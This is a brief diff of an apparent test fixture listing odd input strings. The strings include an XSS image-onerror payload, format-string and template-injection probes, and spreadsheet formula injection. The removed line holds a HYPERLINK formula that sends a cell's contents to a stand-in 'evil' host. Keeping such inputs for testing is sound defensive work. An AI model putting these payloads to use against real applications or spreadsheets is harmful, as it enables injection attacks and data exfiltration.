@@ -157,7 +157,7 @@ ODD = {
     "bell": "a\x07\x08\x7f",
     "markup": "<img src=x onerror=alert(1)>|`$x$`",
     "format": "%s%n{0}{%7*7%}${x}",
-    "formula": '=HYPERLINK("http://evil/?"&A1,"x")',
+    "formula": '=HYPERLINK(A1&"x","x")',
     "wide": "\uff1d1+1",
     "minus": "-5 days",
     "long": "x" * 300,
